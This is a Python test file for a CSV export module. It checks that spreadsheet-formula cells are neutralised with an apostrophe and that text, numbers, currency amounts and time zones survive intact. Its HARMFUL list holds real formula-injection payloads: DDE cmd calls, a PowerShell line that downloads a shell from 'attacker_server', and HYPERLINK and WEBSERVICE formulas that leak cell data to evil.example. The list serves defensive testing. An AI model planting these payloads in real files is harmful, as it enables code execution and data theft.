"""Cells: nothing that a spreadsheet would run, nothing lost, and the same on both databases."""

import csv
import dataclasses
import io
import random
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Float, Integer, Text, literal, null, select

from domain import cells
from extensions import db
from models import UTCDateTime
from tests.csv_files import undone
from tests.databases import on_postgresql

# What runs in a spreadsheet: OWASP's list, those of the pen-testers' collections, and disguises.
HARMFUL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=cmd|"/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0"!_xlbgnm.A1',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click me")',
    '=HYPERLINK(CONCATENATE("http://evil.example/?x=",A1,"[CR]",A2),"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED(CONCAT("http://evil.example/123.txt?v=",CONCATENATE(A2:E2)))',
    '=IMAGE("https://evil.example/images/srpr/logo3w.png")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=WEBSERVICE(CONCATENATE("http://evil.example/",(\'file:///etc/passwd\'#$passwd.A1)))',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=A1\"",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "''=1+1",
    '","=1+1',
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "“=1+1”",
    "`=1+1`",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " ＝1+1",
    "﹦1+1",
    "−1+1",
    "\x01=1+1",
    "\x0b=1+1",
    "\x1f@x",
    "-",
    "=",
    "+919999900001",
    "-5",
    "\t",
    " \n",
    # Nothing but what is skipped: better one apostrophe too many.
    '"',
    "'",
    "  ",
]
HARMLESS = [
    "",
    "x",
    "0",
    "560001",
    "3.5",
    "Call before you come",
    'a "quoted" word',
    '"Quoted"',
    "a;b,=c",
    "'tis fine",
    "a,b;c\td",
    "first\nsecond\r\nthird\rfourth",
    "a = b",
    "mail@example.com",
    "Robert'); DROP TABLE users;--",
    "100 %",
    "50%s %d {0} \\n",
    "नमस्ते, कल आइए",
    "Ünïcödé",
    "ناصر",
    "שלום עליכם",
    "a \u202e right to left",
    "👩🏽‍🔧 🚿",
    "𝒳",
    "\u0301combining",
    "|calc",
    "%0A=1",
    "x" * 1_000_000,
    "\n".join(["long lines, many"] * 50_000),
]
# PostgreSQL keeps no NUL.
WITH_NUL = ["\x00=1+1", " \x00", "a\x00=1", "=1\x00+1", "\x00"]
WANDERING = ["Asia/Kolkata", "Europe/Berlin", "America/St_Johns", "Australia/Lord_Howe", "UTC", "Pacific/Chatham"]


def of(cell) -> str:
    return db.session.scalar(select(cell))


def seen(text: str) -> str:
    """A text after its way through a file and Python's csv module."""
    line = of(cells.row([cells.number(literal(7)), cells.text(literal(text, Text)), cells.number(literal(8))]))
    ((before, cell, after),) = csv.reader(io.StringIO(line + cells.END, newline=""), strict=True)
    assert (before, after) == ("7", "8")
    return cell


def texts(*lists):
    known = [*lists] if on_postgresql() else [*lists, WITH_NUL]
    return [text for one in known for text in one]


def test_what_could_run_begins_with_an_apostrophe_and_is_all_there(app):
    for text in HARMFUL:
        assert seen(text) == "'" + text, repr(text)


def test_what_could_not_run_stays_as_it_is(app):
    for text in HARMLESS:
        assert seen(text) == text, repr(text[:40])


def test_everything_can_be_undone(app):
    for text in texts(HARMFUL, HARMLESS):
        cell = seen(text)
        assert undone(cell) == text, repr(text[:40])
        assert cell[:1] not in cells.FORMULA or not cell
        assert cell.lstrip("\x00" + cells.SKIPPED.replace("'", ""))[:1] not in ("=", "+", "-", "@", "＝"), repr(text)


def test_any_text_comes_back(app):
    draw = random.Random(7)
    alphabet = cells.FORMULA + cells.SKIPPED + 'az09",;|%\\\u0915\U0001f6bf'
    for _ in range(300):
        text = "".join(draw.choices(alphabet, k=draw.randint(1, 8)))
        assert undone(seen(text)) == text, repr(text)


def test_a_line_that_python_writes_is_as_the_database_writes_it(app):
    for text in texts(HARMFUL, HARMLESS):
        if "\x00" not in text:
            written = of(cells.row([cells.text(literal(one, Text)) for one in (text, "x")]))
            assert cells.line(text, "x") == written + cells.END
    for amount in (0, 5, 34_900, -34_999, 10**14 - 1):
        assert cells.decimal(amount) == of(cells.amount(literal(amount)))


def test_nothing_is_an_empty_cell(app):
    for cell in (cells.text(null()), cells.number(null()), cells.word(null()), cells.utc(_column(None))):
        assert of(cell) == ""
    assert of(cells.text(literal("", Text))) == '""'


def test_numbers_stay_numbers(app):
    assert of(cells.number(literal(-5, Integer))) == "-5"
    assert of(cells.number(literal(12.9716, Float))) == "12.9716"
    assert of(cells.number(literal(9_007_199_254_740_993))) == "9007199254740993"


@pytest.mark.parametrize(
    "currency, shown",
    [
        ("INR", ["0.00", "0.05", "349.00", "-349.99"]),
        ("JPY", ["0", "5", "34900", "-34999"]),
        ("KWD", ["0.000", "0.005", "34.900", "-34.999"]),
    ],
)
def test_amounts_are_decimals_of_the_currency(app, settings, monkeypatch, currency, shown):
    monkeypatch.setitem(app.config, "SETTINGS", dataclasses.replace(settings, currency=currency))
    assert [of(cells.amount(literal(one, Integer))) for one in (None, 5, 34_900, -34_999)] == shown


def test_big_amounts_keep_every_paisa(app):
    assert of(cells.amount(literal(10**14 - 1))) == "999999999999.99"


@pytest.mark.parametrize("zone", WANDERING)
def test_moments_are_those_of_the_sites_clock(app, settings, monkeypatch, zone):
    monkeypatch.setitem(app.config, "SETTINGS", dataclasses.replace(settings, timezone=zone))
    first, last = datetime(2021, 1, 1, tzinfo=UTC), datetime(2027, 12, 31, tzinfo=UTC)
    changes = cells.offsets(first, last)
    draw = random.Random(3)
    moments = [first + timedelta(seconds=draw.randrange(int((last - first).total_seconds()))) for _ in range(60)]
    # The seconds around each change of the clock are where one goes wrong.
    moments += [since + timedelta(seconds=n) for since, _offset in changes for n in (-1, 0, 1)]
    for moment in moments:
        expected = moment.astimezone(ZoneInfo(zone)).isoformat(timespec="seconds")
        assert of(cells.moment(_column(moment), changes)) == expected


def test_moments_in_utc_keep_their_microseconds(app):
    moment = datetime(2026, 11, 24, 5, 30, 0, 120, tzinfo=UTC)
    assert of(cells.utc(_column(moment))) == "2026-11-24T05:30:00.000120Z"


def _column(moment):
    return literal(moment, UTCDateTime)
